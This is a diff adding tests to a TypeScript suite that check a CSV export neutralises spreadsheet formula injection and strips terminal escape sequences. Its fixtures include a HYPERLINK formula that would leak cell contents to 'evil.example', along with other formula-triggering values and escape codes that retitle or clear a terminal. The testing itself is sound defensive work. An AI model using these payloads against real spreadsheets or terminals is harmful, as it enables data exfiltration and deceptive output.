@@ -29,6 +29,31 @@ describe('formatExport', () => {
     expect(parsed.stats).toEqual({ taken: 3, skipped: 0, skippedWhy: {} });
   });
 
+  it('defuses reasons and sources a spreadsheet would run as formulas, and still round-trips them exactly', async () => {
+    const tricky = ['=HYPERLINK("http://evil.example/?"&C2,"x")', "'=1+1", "''@SUM(1)", '-5 dB', '+33 spam', '@cmd', '\tTab',
+      "'hello", '-12.5', '+1', 'plain'];
+    const recs: ListRecord[] = tricky.map((reason, i) => ({
+      list: 'block', entry: { kind: 'number', e164: `+336123456${String(i).padStart(2, '0')}` }, reason, source: i === 0 ? '=source()' : 'cli', addedAt: 0, expiresAt: null,
+    }));
+    const out = await text(recs);
+    const lines = out.trim().split('\n').slice(1);
+    // what a spreadsheet would see: no cell starting with = + - @ or a tab, but numbers
+    expect(lines[0]).toContain(`"'=HYPERLINK(""http://evil.example/?""&C2,""x"")",'=source()`);
+    expect(lines[1]).toContain(",''=1+1,");
+    expect(lines[3]).toContain(",'-5 dB,");
+    expect(lines[4]).toContain(",'+33 spam,");
+    expect(lines[8]).toContain(',-12.5,');
+    expect(lines[9]).toContain(',+1,');
+    const back = parseImport(out, { format: 'chut', list: 'block', source: 'x', defaultCountry: 'FR', now: 0 });
+    expect(back.records.map((r) => [r.reason, r.source])).toEqual(recs.map((r) => [r.reason, r.source]));
+  });
+
+  it('never writes a control character of a reason (an escape sequence would reach the terminal of `chut export`)', async () => {
+    const out = await text([{ ...records[0] as ListRecord, reason: 'spam\u001b]0;owned\u0007\u001b[2J\u009bALLOWED' }]);
+    expect(out).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/);
+    expect(out).toContain('spam]0;owned[2JALLOWED');
+  });
+
   it('writes only the header for empty lists', async () => {
     expect(await text([])).toBe('list,kind,entry,reason,source,added_at,expires_at\n');
   });
